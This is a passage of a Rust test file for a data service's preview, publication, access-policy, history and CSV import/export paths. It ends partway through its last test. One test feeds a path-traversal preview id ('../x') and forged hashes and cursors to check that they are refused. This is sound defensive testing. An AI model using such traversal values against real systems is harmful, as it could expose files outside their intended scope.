//! `DataService`'s preview and publication paths through the worker (the
//! engine's own tests cover the files in depth).

use sasha_contract::data::{
    Access, Migration, TableDeclaration, contract_hash, read_schema, sha256_hex,
};

use super::*;
use sasha_contract::caller::{AppAccess, CallSource};
use sasha_proto::convert::ToWire;
use sasha_service::Role;

const APP: &str = "notes";

pub(crate) fn contract_with(migrations: &[&str]) -> DataContract {
    let replay = rusqlite::Connection::open_in_memory().unwrap();
    let migrations: Vec<Migration> = migrations
        .iter()
        .enumerate()
        .map(|(index, sql)| {
            replay.execute_batch(sql).unwrap();
            let number = u32::try_from(index + 1).unwrap();
            Migration {
                file: format!("migrations/{number:03}-step.sql"),
                number,
                checksum: sha256_hex(sql.as_bytes()),
                sql: (*sql).to_owned(),
            }
        })
        .collect();
    let tables = std::collections::BTreeMap::from([(
        "notes".to_owned(),
        TableDeclaration {
            access: Access::Shared,
            owner_field: None,
            write: Default::default(),
            managers_read_all: false,
        },
    )]);
    DataContract {
        schema: read_schema(&replay).unwrap(),
        hash: contract_hash(&tables, &migrations),
        migrations,
        tables,
    }
}

pub(crate) const FIRST: &str = "CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT NOT NULL);";
const SECOND: &str = "ALTER TABLE notes ADD COLUMN pinned INTEGER;";

fn request(contract: &DataContract, operation: &str, json: Value, preview: &str) -> ExecuteRequest {
    ExecuteRequest {
        epoch: 0,
        app_id: APP.into(),
        contract_hash: contract.hash.clone(),
        actor: Some(pb::Actor {
            user_id: "alice".into(),
            access: AppAccess::Use.to_wire(),
        }),
        operation: operation.into(),
        table: "notes".into(),
        request_json: json.to_string(),
        contract: Some(pb::DataContract::from(contract)),
        source: CallSource::Ui.to_wire(),
        provenance: Some(sasha_proto::convert::provenance_to_wire(
            sasha_contract::caller::Initiator::AppView,
            None,
        )),
        app_revision: "rev-1".into(),
        action_id: String::new(),
        preview: preview.into(),
        // A user of the live app (these tables are its live ones).
        preview_scope: (!preview.is_empty()).then(|| {
            pb::PreviewScope::from(&PreviewScope::of_live(Some(&contract.tables), Some(false)))
        }),
    }
}

/// Alice's preview `id` as a user of the live `contract`.
fn alices<'a>(id: &'a str, scope: &'a PreviewScope) -> Target<'a> {
    Target::Preview {
        app_id: APP,
        preview: Preview {
            id,
            previewer: "alice",
            scope,
        },
    }
}

/// `request` on `table` by `user` holding `access` on the app (any other
/// text: an unspecified access).
fn acting(
    contract: &DataContract,
    (user, access): (&str, &str),
    operation: &str,
    table: &str,
    json: Value,
) -> ExecuteRequest {
    let mut request = request(contract, operation, json, "");
    request.table = table.into();
    request.actor = Some(pb::Actor {
        user_id: user.into(),
        access: AppAccess::parse(access).map_or(0, ToWire::to_wire),
    });
    request
}

fn bodies(worker: &Worker, contract: &DataContract, preview: &str) -> Vec<Value> {
    let listed = execute(
        worker,
        request(contract, "list", serde_json::json!({}), preview),
    )
    .unwrap();
    listed["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|row| row["body"].clone())
        .collect()
}

#[test]
fn execute_runs_a_preview_on_its_scratch_copy_only() {
    let dir = tempfile::tempdir().unwrap();
    let worker = Worker::new(dir.path(), None, crate::ownership::Ownership::single());
    let live = contract_with(&[FIRST]);
    let create = |contract: &DataContract, body: &str, preview: &str| {
        execute(
            &worker,
            request(
                contract,
                "create",
                serde_json::json!({"values": {"body": body}, "idempotencyKey": body}),
                preview,
            ),
        )
    };
    create(&live, "live", "").unwrap();
    let id = "0123456789abcdef0123456789abcdef";
    let draft = contract_with(&[FIRST, SECOND]);
    create(&draft, "draft", id).unwrap();
    assert_eq!(bodies(&worker, &draft, id), ["live", "draft"]);
    assert_eq!(bodies(&worker, &live, ""), ["live"]);

    for bad in ["ABC", "0123456789ABCDEF0123456789ABCDEF", "../x"] {
        let error = create(&draft, "nope", bad).unwrap_err();
        assert_eq!(error.code, ErrorCode::InputInvalid, "{bad}");
    }
    // The draft's column is described in the preview only.
    let scope = PreviewScope::of_live(Some(&live.tables), Some(false));
    let described = worker.engine.describe(alices(id, &scope), &draft).unwrap();
    assert!(described.tables["notes"].column("pinned").is_some());
    let described = worker.engine.describe(APP, &live).unwrap();
    assert!(described.tables["notes"].column("pinned").is_none());

    // A preview's call that does not say what its previewer may read of
    // live is refused, never given everything.
    let mut unscoped = request(&draft, "list", serde_json::json!({}), id);
    unscoped.preview_scope = None;
    let error = execute(&worker, unscoped).unwrap_err();
    assert_eq!(error.code, ErrorCode::InputInvalid);
    assert!(error.message.contains("may read"), "{}", error.message);
}

/// A request as studio-core's certificate makes it.
fn from_core<T>(message: T) -> Request<T> {
    let mut request = Request::new(message);
    request.extensions_mut().insert(Role::StudioCore);
    request
}

#[tokio::test]
async fn the_data_lifecycle_is_studio_cores_alone() {
    let dir = tempfile::tempdir().unwrap();
    let worker = Worker::new(dir.path(), None, crate::ownership::Ownership::single());
    let live = contract_with(&[FIRST]);
    worker.engine.open(APP, &live).unwrap();
    for caller in [None, Some(Role::McpGateway)] {
        let by = |mut request: Request<()>| {
            if let Some(role) = caller {
                request.extensions_mut().insert(role);
            }
            request
        };
        let apply = by(Request::new(())).map(|()| pb::ApplyContractRequest {
            published_by: String::new(),
            revision: String::new(),
            app_id: APP.into(),
            epoch: 0,
            contract: Some(pb::DataContract::from(&live)),
            dry_run: true,
            approved_by_admin: String::new(),
        });
        let status = worker.apply_contract(apply).await.unwrap_err();
        assert_eq!(status.code(), tonic::Code::PermissionDenied, "{caller:?}");
        let remove = by(Request::new(())).map(|()| pb::RemovePreviewRequest {
            app_id: APP.into(),
            epoch: 0,
            preview: String::new(),
        });
        let status = worker.remove_preview(remove).await.unwrap_err();
        assert_eq!(status.code(), tonic::Code::PermissionDenied, "{caller:?}");
        let delete = by(Request::new(())).map(|()| pb::RemoveAppDataRequest {
            app_id: APP.into(),
            epoch: 0,
        });
        let status = worker.remove_app_data(delete).await.unwrap_err();
        assert_eq!(status.code(), tonic::Code::PermissionDenied, "{caller:?}");
    }
    // The live file is still there.
    assert!(dir.path().join(format!("{APP}.sqlite")).exists());
}

#[tokio::test]
async fn apply_contract_verifies_and_publishes_a_draft() {
    let dir = tempfile::tempdir().unwrap();
    let worker = Worker::new(dir.path(), None, crate::ownership::Ownership::single());
    let live = contract_with(&[FIRST]);
    worker.engine.open(APP, &live).unwrap();
    let draft = contract_with(&[FIRST, SECOND]);
    let ask = |contract: pb::DataContract, dry_run: bool| {
        worker.apply_contract(from_core(pb::ApplyContractRequest {
            published_by: String::new(),
            revision: String::new(),
            epoch: 0,
            app_id: APP.into(),
            contract: Some(contract),
            dry_run,
            approved_by_admin: String::new(),
        }))
    };

    // A contract that does not match its hash, or none, is refused.
    let mut forged = pb::DataContract::from(&draft);
    forged.hash = "0".repeat(64);
    let status = ask(forged, false).await.unwrap_err();
    assert_eq!(status.code(), tonic::Code::InvalidArgument, "{status:?}");
    let status = worker
        .apply_contract(from_core(pb::ApplyContractRequest {
            published_by: String::new(),
            revision: String::new(),
            app_id: APP.into(),
            epoch: 0,
            contract: None,
            dry_run: true,
            approved_by_admin: String::new(),
        }))
        .await
        .unwrap_err();
    assert_eq!(status.code(), tonic::Code::InvalidArgument);

    let dry = ask(pb::DataContract::from(&draft), true)
        .await
        .unwrap()
        .into_inner();
    assert_eq!(dry.applied, ["migrations/002-step.sql"]);
    assert!(dry.drift.is_empty());
    let done = ask(pb::DataContract::from(&draft), false)
        .await
        .unwrap()
        .into_inner();
    assert_eq!(done.applied, ["migrations/002-step.sql"]);
    let again = ask(pb::DataContract::from(&draft), false)
        .await
        .unwrap()
        .into_inner();
    assert!(again.applied.is_empty());

    // RemovePreview answers with the count of files removed.
    let id = "0123456789abcdef0123456789abcdef";
    let scope = PreviewScope::of_live(Some(&live.tables), Some(false));
    worker.engine.open(alices(id, &scope), &draft).unwrap();
    let removed = worker
        .remove_preview(from_core(pb::RemovePreviewRequest {
            app_id: APP.into(),
            epoch: 0,
            preview: String::new(),
        }))
        .await
        .unwrap()
        .into_inner();
    assert!(removed.removed_files >= 1);
}

/// The contract of one migration, `sql`, declaring `tables`.
fn contract_of(sql: &str, tables: Vec<(&str, TableDeclaration)>) -> DataContract {
    let replay = rusqlite::Connection::open_in_memory().unwrap();
    replay.execute_batch(sql).unwrap();
    let migrations = vec![Migration {
        file: "migrations/001-step.sql".into(),
        number: 1,
        checksum: sha256_hex(sql.as_bytes()),
        sql: sql.to_owned(),
    }];
    let tables: std::collections::BTreeMap<String, TableDeclaration> = tables
        .into_iter()
        .map(|(name, declaration)| (name.to_owned(), declaration))
        .collect();
    DataContract {
        schema: read_schema(&replay).unwrap(),
        hash: contract_hash(&tables, &migrations),
        migrations,
        tables,
    }
}

fn shared() -> TableDeclaration {
    TableDeclaration {
        access: Access::Shared,
        owner_field: None,
        write: Default::default(),
        managers_read_all: false,
    }
}

/// A Time Sheet-like contract: `projects` shared and written by managers
/// only, `entries` owned through `created_by` and read in full by managers.
fn policy_contract() -> DataContract {
    contract_of(
        "CREATE TABLE projects (id INTEGER PRIMARY KEY, name TEXT NOT NULL);\
         CREATE TABLE entries (id INTEGER PRIMARY KEY, hours REAL NOT NULL, created_by TEXT NOT NULL);",
        vec![
            (
                "projects",
                TableDeclaration {
                    write: sasha_contract::data::WritePolicy::Manage,
                    ..shared()
                },
            ),
            (
                "entries",
                TableDeclaration {
                    access: Access::Owner,
                    owner_field: Some("created_by".into()),
                    managers_read_all: true,
                    ..shared()
                },
            ),
        ],
    )
}

#[test]
fn write_policies_and_manager_reads_follow_the_callers_grant() {
    let dir = tempfile::tempdir().unwrap();
    let worker = Worker::new(dir.path(), None, crate::ownership::Ownership::single());
    let contract = policy_contract();
    let call = |user: &str, access: &str, operation: &str, table: &str, json: Value| {
        execute(
            &worker,
            acting(&contract, (user, access), operation, table, json),
        )
    };
    let project =
        |name: &str| serde_json::json!({"values": {"name": name}, "idempotencyKey": name});

    // Only a manager writes `projects`; a use holder is refused, and a
    // request that leaves the access unspecified is refused whatever it asks.
    let made = call("boss", "manage", "create", "projects", project("Ops")).unwrap();
    let refused = call("alice", "use", "create", "projects", project("Mine")).unwrap_err();
    assert_eq!(refused.code, ErrorCode::AccessDenied);
    assert!(refused.message.contains("projects"), "{}", refused.message);
    assert_eq!(refused.details.as_ref().unwrap()["write"], "manage");
    for (operation, json) in [("create", project("Mine")), ("list", serde_json::json!({}))] {
        let refused = call("alice", "unspecified", operation, "projects", json).unwrap_err();
        assert_eq!(refused.code, ErrorCode::InputInvalid, "{operation}");
    }
    let rename = serde_json::json!({"id": made["id"], "changes": {"name": "Mine"}, "expectedVersion": 1, "idempotencyKey": "r"});
    assert_eq!(
        call("alice", "use", "update", "projects", rename.clone())
            .unwrap_err()
            .code,
        ErrorCode::AccessDenied
    );
    let delete = serde_json::json!({"id": made["id"], "expectedVersion": 1, "idempotencyKey": "d"});
    assert_eq!(
        call("alice", "use", "delete", "projects", delete)
            .unwrap_err()
            .code,
        ErrorCode::AccessDenied
    );
    // Everyone reads it.
    let listed = call("alice", "use", "list", "projects", serde_json::json!({})).unwrap();
    assert_eq!(listed["rows"][0]["name"], "Ops");
    call("boss", "manage", "update", "projects", rename).unwrap();

    // `entries`: each writes their own; a manager reads everyone's.
    let hours = |hours: f64, key: &str| serde_json::json!({"values": {"hours": hours}, "idempotencyKey": key});
    let alices = call("alice", "use", "create", "entries", hours(2.0, "a")).unwrap();
    call("bob", "use", "create", "entries", hours(3.0, "b")).unwrap();
    call("boss", "manage", "create", "entries", hours(1.0, "c")).unwrap();
    let total = |user: &str, access: &str| {
        call(
            user,
            access,
            "aggregate",
            "entries",
            serde_json::json!({"metrics": [{"as": "total", "sum": "hours"}]}),
        )
        .unwrap()["groups"][0]["total"]
            .as_f64()
            .unwrap()
    };
    assert_eq!(total("alice", "use"), 2.0);
    assert_eq!(total("boss", "manage"), 6.0);
    let listed = call("boss", "manage", "list", "entries", serde_json::json!({})).unwrap();
    assert_eq!(listed["rows"].as_array().unwrap().len(), 3);
    let seen = call(
        "boss",
        "manage",
        "get",
        "entries",
        serde_json::json!({"id": alices["id"]}),
    )
    .unwrap();
    assert_eq!(seen["created_by"], "alice");
    // A member still sees only their own.
    let listed = call("bob", "use", "list", "entries", serde_json::json!({})).unwrap();
    assert_eq!(listed["rows"].as_array().unwrap().len(), 1);
    // A manager's writes stay bound to their own rows.
    let edit = serde_json::json!({"id": alices["id"], "changes": {"hours": 9.0}, "expectedVersion": 1, "idempotencyKey": "e"});
    assert_eq!(
        call("boss", "manage", "update", "entries", edit)
            .unwrap_err()
            .code,
        ErrorCode::RecordNotFound
    );
}

#[test]
fn a_rows_history_is_read_like_the_row_and_paged() {
    let dir = tempfile::tempdir().unwrap();
    let worker = Worker::new(dir.path(), None, crate::ownership::Ownership::single());
    let contract = policy_contract();
    let call = |user: &str, access: &str, operation: &str, json: Value| {
        execute(
            &worker,
            acting(&contract, (user, access), operation, "entries", json),
        )
    };
    let row = call(
        "alice",
        "use",
        "create",
        serde_json::json!({"values": {"hours": 1.0}, "idempotencyKey": "c"}),
    )
    .unwrap();
    let id = row["id"].clone();
    for (version, hours) in [(1, 2.0), (2, 3.0)] {
        call("alice", "use", "update", serde_json::json!({"id": id, "changes": {"hours": hours}, "expectedVersion": version, "idempotencyKey": format!("u{version}")})).unwrap();
    }
    call(
        "alice",
        "use",
        "delete",
        serde_json::json!({"id": id, "expectedVersion": 3, "idempotencyKey": "d"}),
    )
    .unwrap();

    let history = call("alice", "use", "history", serde_json::json!({"id": id})).unwrap();
    let entries = history["entries"].as_array().unwrap();
    let operations: Vec<&str> = entries
        .iter()
        .map(|e| e["operation"].as_str().unwrap())
        .collect();
    assert_eq!(operations, ["create", "update", "update", "delete"]);
    assert_eq!(entries[0]["before"], Value::Null);
    assert_eq!(entries[0]["after"]["hours"], 1.0);
    assert_eq!(entries[1]["before"]["hours"], 1.0);
    assert_eq!(entries[1]["after"]["hours"], 2.0);
    assert_eq!(entries[3]["before"]["hours"], 3.0);
    assert_eq!(entries[3]["after"], Value::Null);
    assert!(
        entries
            .iter()
            .all(|e| e["actor"] == "alice" && e["source"] == "ui")
    );
    assert!(entries[0]["at"].as_str().unwrap().ends_with('Z'));
    assert_eq!(history["nextCursor"], Value::Null);

    // Another member cannot read it, the same answer as for no row at all.
    for (user, access, id) in [
        ("bob", "use", id.clone()),
        ("alice", "use", serde_json::json!(999)),
    ] {
        let refused = call(user, access, "history", serde_json::json!({"id": id})).unwrap_err();
        assert_eq!(refused.code, ErrorCode::RecordNotFound, "{user}");
    }
    // A manager of a `managersReadAll` table reads it, a page at a time.
    let first = call(
        "boss",
        "manage",
        "history",
        serde_json::json!({"id": id, "limit": 3}),
    )
    .unwrap();
    assert_eq!(first["entries"].as_array().unwrap().len(), 3);
    let cursor = first["nextCursor"].as_str().unwrap().to_owned();
    let rest = call(
        "boss",
        "manage",
        "history",
        serde_json::json!({"id": id, "limit": 3, "cursor": cursor}),
    )
    .unwrap();
    assert_eq!(rest["entries"][0]["operation"], "delete");
    assert_eq!(rest["nextCursor"], Value::Null);
    // Bounds and a forged cursor are refused with the field named.
    for bad in [
        serde_json::json!({"id": id, "limit": 51}),
        serde_json::json!({"id": id, "limit": 0}),
        serde_json::json!({"id": id, "cursor": "x"}),
        serde_json::json!({"id": id, "cursor": "-1"}),
        serde_json::json!({"id": id, "extra": 1}),
        serde_json::json!({}),
    ] {
        let refused = call("alice", "use", "history", bad.clone()).unwrap_err();
        assert_eq!(refused.code, ErrorCode::InputInvalid, "{bad}");
    }
}

/// `projects` with a unique name; `entries` referring to a project, with a
/// named and an unnamed CHECK rule.
fn constraint_contract() -> DataContract {
    contract_of(
        "CREATE TABLE projects (id INTEGER PRIMARY KEY, name TEXT NOT NULL UNIQUE);\
         CREATE TABLE entries (id INTEGER PRIMARY KEY, \
           project INTEGER NOT NULL REFERENCES projects(id), \
           hours REAL NOT NULL CONSTRAINT hours_between_0_and_24 CHECK (hours >= 0 AND hours <= 24), \
           note TEXT CHECK (length(note) < 5),            day DATE CONSTRAINT \"day must be in 2026\" CHECK (day IS NULL OR day LIKE '2026-%'));",
        vec![("projects", shared()), ("entries", shared())],
    )
}

#[test]
fn a_broken_constraint_names_its_field_and_rule_never_sql() {
    let dir = tempfile::tempdir().unwrap();
    let worker = Worker::new(dir.path(), None, crate::ownership::Ownership::single());
    let contract = constraint_contract();
    let call = |operation: &str, table: &str, json: Value| {
        let mut request = request(&contract, operation, json, "");
        request.table = table.into();
        execute(&worker, request)
    };
    let ops = call(
        "create",
        "projects",
        serde_json::json!({"values": {"name": "Ops"}, "idempotencyKey": "p1"}),
    )
    .unwrap();
    let entry = call(
        "create",
        "entries",
        serde_json::json!({"values": {"project": ops["id"], "hours": 2.0}, "idempotencyKey": "e1"}),
    )
    .unwrap();

    let refusals = [
        (
            call(
                "create",
                "projects",
                serde_json::json!({"values": {"name": "Ops"}, "idempotencyKey": "p2"}),
            ),
            ErrorCode::Conflict,
            "name must be unique",
            serde_json::json!({"table": "projects", "fields": ["name"], "rule": "unique"}),
        ),
        (
            call(
                "create",
                "entries",
                serde_json::json!({"values": {"project": 7, "hours": 1.0}, "idempotencyKey": "e2"}),
            ),
            ErrorCode::InputInvalid,
            "project: projects 7 does not exist",
            serde_json::json!({"table": "entries", "field": "project", "value": 7, "references": "projects", "rule": "reference"}),
        ),
        (
            call(
                "update",
                "entries",
                serde_json::json!({"id": entry["id"], "changes": {"project": 99}, "expectedVersion": 1, "idempotencyKey": "e3"}),
            ),
            ErrorCode::InputInvalid,
            "project: projects 99 does not exist",
            serde_json::json!({"table": "entries", "field": "project", "value": 99, "references": "projects", "rule": "reference"}),
        ),
        (
            call(
                "delete",
                "projects",
                serde_json::json!({"id": ops["id"], "expectedVersion": 1, "idempotencyKey": "p3"}),
            ),
            ErrorCode::Conflict,
            "a projects row that entries rows refer to cannot be deleted",
            serde_json::json!({"table": "projects", "referencedBy": ["entries"], "rule": "referenced"}),
        ),
        (
            call(
                "create",
                "entries",
                serde_json::json!({"values": {"project": ops["id"], "hours": 30.0}, "idempotencyKey": "e4"}),
            ),
            ErrorCode::InputInvalid,
            "breaks its rule hours_between_0_and_24",
            serde_json::json!({"table": "entries", "fields": ["hours"], "field": "hours", "rule": "check", "constraint": "hours_between_0_and_24"}),
        ),
        (
            call(
                "create",
                "entries",
                serde_json::json!({"values": {"project": ops["id"], "hours": 1.0, "day": "2025-12-31"}, "idempotencyKey": "e6"}),
            ),
            ErrorCode::InputInvalid,
            "day must be in 2026",
            serde_json::json!({"table": "entries", "fields": ["day"], "field": "day", "rule": "check", "constraint": "day must be in 2026"}),
        ),
        // A typed kind is checked before SQL: a date that is no day.
        (
            call(
                "create",
                "entries",
                serde_json::json!({"values": {"project": ops["id"], "hours": 1.0, "day": "next tuesday"}, "idempotencyKey": "e7"}),
            ),
            ErrorCode::InputInvalid,
            "day must be a calendar date written YYYY-MM-DD",
            serde_json::json!({"table": "entries", "field": "day", "rule": "date"}),
        ),
        (
            call(
                "update",
                "entries",
                serde_json::json!({"id": entry["id"], "changes": {"day": "12/02/2026"}, "expectedVersion": 1, "idempotencyKey": "e8"}),
            ),
            ErrorCode::InputInvalid,
            "day must be a calendar date written YYYY-MM-DD",
            serde_json::json!({"table": "entries", "field": "day", "rule": "date"}),
        ),
        (
            call(
                "create",
                "entries",
                serde_json::json!({"values": {"project": ops["id"], "hours": 1.0, "day": 20261202}, "idempotencyKey": "e9"}),
            ),
            ErrorCode::InputInvalid,
            "day must be a calendar date written YYYY-MM-DD, as a string",
            serde_json::json!({"table": "entries", "field": "day", "rule": "date"}),
        ),
        (
            call(
                "create",
                "entries",
                serde_json::json!({"values": {"project": ops["id"], "hours": 1.0, "note": "far too long"}, "idempotencyKey": "e5"}),
            ),
            ErrorCode::InputInvalid,
            "breaks one of its CHECK rules",
            serde_json::json!({"table": "entries", "rule": "check"}),
        ),
    ];
    for (result, code, says, details) in refusals {
        let error = result.unwrap_err();
        assert_eq!(error.code, code, "{}", error.message);
        assert!(error.message.contains(says), "{}", error.message);
        assert_eq!(error.details, Some(details), "{}", error.message);
        for sql in [
            "constraint failed",
            "length(",
            "hours >=",
            "FOREIGN KEY",
            "UNIQUE",
        ] {
            assert!(!error.message.contains(sql), "{sql} in {}", error.message);
        }
    }
    // Nothing of the refused writes is stored; the row that was is unchanged.
    let listed = call("list", "entries", serde_json::json!({})).unwrap();
    assert_eq!(listed["rows"].as_array().unwrap().len(), 1);
    assert_eq!(listed["rows"][0]["project"], ops["id"]);
    let projects = call("list", "projects", serde_json::json!({})).unwrap();
    assert_eq!(projects["rows"].as_array().unwrap().len(), 1);
}

/// A `tracing` writer that keeps what is logged, for the test to read.
#[derive(Clone, Default)]
struct Captured(std::sync::Arc<std::sync::Mutex<Vec<u8>>>);

impl std::io::Write for Captured {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

impl Captured {
    fn text(&self) -> String {
        String::from_utf8_lossy(&self.0.lock().unwrap()).into_owned()
    }
}

#[test]
fn a_refused_write_is_logged_once_at_info_with_the_code_the_caller_was_told() {
    let dir = tempfile::tempdir().unwrap();
    let worker = Worker::new(dir.path(), None, crate::ownership::Ownership::single());
    let contract = constraint_contract();
    let call = |operation: &str, table: &str, json: Value| {
        let mut request = request(&contract, operation, json, "");
        request.table = table.into();
        execute(&worker, request)
    };
    let ops = call(
        "create",
        "projects",
        serde_json::json!({"values": {"name": "Ops"}, "idempotencyKey": "p1"}),
    )
    .unwrap();
    let captured = Captured::default();
    let writer = captured.clone();
    let subscriber = tracing_subscriber::fmt()
        .with_max_level(tracing::Level::TRACE)
        .with_ansi(false)
        .with_writer(move || writer.clone())
        .finish();
    // A typo in a form (hours out of range) and a taken name: what the person
    // is told is what the log says, at info, once.
    let (typo, taken) = tracing::subscriber::with_default(subscriber, || {
        let typo = call(
            "create",
            "entries",
            serde_json::json!({"values": {"project": ops["id"], "hours": 240.0}, "idempotencyKey": "e1"}),
        )
        .unwrap_err();
        let taken = call(
            "create",
            "projects",
            serde_json::json!({"values": {"name": "Ops"}, "idempotencyKey": "p2"}),
        )
        .unwrap_err();
        (typo, taken)
    });
    assert_eq!(typo.code, ErrorCode::InputInvalid);
    assert_eq!(taken.code, ErrorCode::Conflict);
    let log = captured.text();
    let lines: Vec<&str> = log.lines().collect();
    for told in [&typo, &taken] {
        let id = told.diagnostic_id.to_string();
        let about: Vec<&&str> = lines.iter().filter(|line| line.contains(&id)).collect();
        assert_eq!(about.len(), 1, "one line per refusal: {log}");
        let line = about[0];
        assert!(line.contains(" INFO "), "{line}");
        assert!(line.contains(&format!("code={}", told.code)), "{line}");
    }
    assert!(!log.contains(" WARN "), "{log}");
    assert!(!log.contains("sqlite failure"), "{log}");
}

/// Time Sheet's `entries` with a typed date and a worded rule.
fn import_contract() -> DataContract {
    contract_of(
        "CREATE TABLE entries (id INTEGER PRIMARY KEY, date DATE NOT NULL, \
           hours REAL NOT NULL CONSTRAINT \"hours must be between 0 and 24\" CHECK (hours >= 0 AND hours <= 24), \
           note TEXT, created_by TEXT NOT NULL);",
        vec![(
            "entries",
            TableDeclaration {
                access: Access::Owner,
                owner_field: Some("created_by".into()),
                managers_read_all: true,
                ..shared()
            },
        )],
    )
}

fn timesheet_csv(rows: usize) -> String {
    let mut text = String::from("date,hours,note\n");
    for row in 0..rows {
        let note = if row % 3 == 0 {
            String::new()
        } else {
            format!("\"task, part {row}\"")
        };
        text.push_str(&format!(
            "2026-{:02}-{:02},{},{note}\n",
            row % 12 + 1,
            row % 28 + 1,
            (row % 9) as f64 + 0.5
        ));
    }
    text
}

#[test]
fn a_csv_imports_all_or_nothing_and_exports_like_a_list() {
    let dir = tempfile::tempdir().unwrap();
    let worker = Worker::new(dir.path(), None, crate::ownership::Ownership::single());
    let contract = import_contract();
    let call = |user: &str, access: &str, operation: &str, json: Value| {
        let mut request = acting(&contract, (user, access), operation, "entries", json);
        request.source = CallSource::Mcp.to_wire();
        execute(&worker, request)
    };
    let file = timesheet_csv(MAX_CSV_ROWS);
    let import = |user: &str, text: &str, key: &str| {
        call(
            user,
            "use",
            "import",
            serde_json::json!({"csv": text, "idempotencyKey": key}),
        )
    };
    let started = std::time::Instant::now();
    let imported = import("alice", &file, "week-1").unwrap();
    eprintln!("imported {MAX_CSV_ROWS} rows in {:?}", started.elapsed());
    assert_eq!(
        imported,
        serde_json::json!({"imported": MAX_CSV_ROWS, "skipped": []})
    );
    // A retry with the key replays; nothing is imported twice.
    assert_eq!(import("alice", &file, "week-1").unwrap(), imported);

    // One bad row anywhere: nothing of the file, and the row and field named.
    let bad = |line: &str, replacement: &str| {
        let mut lines: Vec<String> = timesheet_csv(100).lines().map(str::to_owned).collect();
        lines[50] = line.replace("{}", replacement);
        lines.join("\n")
    };
    let cases = [
        (
            bad("2026-01-05,{},", "-5"),
            "hours",
            "row 50: hours must be between 0 and 24",
        ),
        (
            bad("{},1,", "next tuesday"),
            "date",
            "row 50: date must be a calendar date written YYYY-MM-DD",
        ),
        (
            bad("2026-01-05,{},", "lots"),
            "hours",
            "row 50: hours must be a number",
        ),
        (
            bad("2026-01-05,{},", ""),
            "",
            "row 50: values needs field hours",
        ),
    ];
    for (text, field, says) in cases {
        let error = import("alice", &text, "bad").unwrap_err();
        assert_eq!(error.code, ErrorCode::InputInvalid, "{}", error.message);
        assert!(error.message.starts_with(says), "{}", error.message);
        let details = error.details.unwrap();
        assert_eq!(details["row"], 50, "{details}");
        if !field.is_empty() {
            assert_eq!(details["field"], field, "{details}");
        }
    }
    for (text, says) in [
        (
            "date,hours,owner\n2026-01-01,1,x\n",
            "the header names \"owner\"",
        ),
        ("date,hours,date\n2026-01-01,1,2026-01-01\n", "named twice"),
        (
            "date,hours\n2026-01-01,1,extra\n",
            "row 1: the file cannot be read: it has 3 cells where the header has 2",
        ),
        ("date,hours\n", "no rows"),
    ] {
        let error = import("alice", text, "bad").unwrap_err();
        assert_eq!(error.code, ErrorCode::InputInvalid, "{text}");
        assert!(error.message.contains(says), "{}", error.message);
    }
    for (operation, json) in [
        ("import", serde_json::json!({"idempotencyKey": "k"})),
        (
            "import",
            serde_json::json!({"csv": 5, "idempotencyKey": "k"}),
        ),
        (
            "import",
            serde_json::json!({"csv": "date,hours\n2026-01-01,1\n"}),
        ),
        ("export", serde_json::json!({"limit": 5})),
        ("export", serde_json::json!({"select": ["date"]})),
        ("export", serde_json::json!({"cursor": "not ours"})),
    ] {
        let error = call("alice", "use", operation, json.clone()).unwrap_err();
        assert_eq!(error.code, ErrorCode::InputInvalid, "{operation} {json}");
    }
    let too_many = timesheet_csv(MAX_CSV_ROWS + 1);
    assert_eq!(
        import("alice", &too_many, "big").unwrap_err().code,
        ErrorCode::ResourceLimit
    );
    let listed = call(
        "alice",
        "use",
        "aggregate",
        serde_json::json!({"metrics": [{"as": "n", "count": "id"}]}),
    )
    .unwrap();
    assert_eq!(listed["groups"][0]["n"], MAX_CSV_ROWS);

    // The export holds what was imported, stamped with its owner; another
    // member's export is empty; the manager's (managersReadAll) has every row.
    let exported = call(
        "alice",
        "use",
        "export",
        serde_json::json!({"orderBy": [{"field": "id"}]}),
    )
    .unwrap();
    assert_eq!(exported["rows"], MAX_CSV_ROWS);
    assert_eq!(exported["nextCursor"], Value::Null);
    let csv = exported["csv"].as_str().unwrap();
    let mut lines = csv.lines();
    assert_eq!(lines.next(), Some("id,date,hours,note,created_by"));
    let first = lines.next().unwrap();
    assert!(first.ends_with(",2026-01-01,0.5,,alice"), "{first}");
    let mut reader = ::csv::Reader::from_reader(csv.as_bytes());
    let mut original = ::csv::Reader::from_reader(file.as_bytes());
    for (out, input) in reader.records().zip(original.records()) {
        let (out, input) = (out.unwrap(), input.unwrap());
        assert_eq!(&out[1], &input[0]);
        assert_eq!(
            out[2].parse::<f64>().unwrap(),
            input[1].parse::<f64>().unwrap()
        );
        assert_eq!(&out[3], &input[2]);
    }
    // An export imports back as new rows of the importer's (id and owner are
    // the platform's and are said to be skipped).
    let again = import("bob", csv, "from-alice").unwrap();
    assert_eq!(again["skipped"], serde_json::json!(["id", "created_by"]));
    let bobs = call("bob", "use", "export", serde_json::json!({})).unwrap();
    assert_eq!(bobs["rows"], MAX_CSV_ROWS);
    assert!(
        bobs["csv"]
            .as_str()
            .unwrap()
            .lines()
            .nth(1)
            .unwrap()
            .ends_with(",bob")
    );
    let carol = call("carol", "use", "export", serde_json::json!({})).unwrap();
    assert_eq!(carol["csv"], "id,date,hours,note,created_by\n");
    let everyone = call("boss", "manage", "export", serde_json::json!({})).unwrap();
    assert_eq!(everyone["rows"], MAX_CSV_ROWS);
    assert!(
        everyone["nextCursor"].is_string(),
        "20,000 rows: a second page"
    );

    // Every imported row is an import in the ledger.
    let conn = rusqlite::Connection::open(dir.path().join("notes.sqlite")).unwrap();
    let sources: Vec<(String, i64)> = conn
        .prepare("SELECT source, count(*) FROM _sasha_audit GROUP BY source")
        .unwrap()
        .query_map([], |row| Ok((row.get(0)?, row.get(1)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(sources, [("import".to_owned(), 2 * MAX_CSV_ROWS as i64)]);
}

#[test]
fn import_follows_the_write_policy() {
    let dir = tempfile::tempdir().unwrap();
    let worker = Worker::new(dir.path(), None, crate::ownership::Ownership::single());
    let contract = policy_contract();
    let mut request = request(
        &contract,
        "import",
        serde_json::json!({"csv": "name\nOps\n", "idempotencyKey": "p"}),
        "",
    );
    request.table = "projects".into();
    assert_eq!(
        execute(&worker, request.clone()).unwrap_err().code,
        ErrorCode::AccessDenied
    );
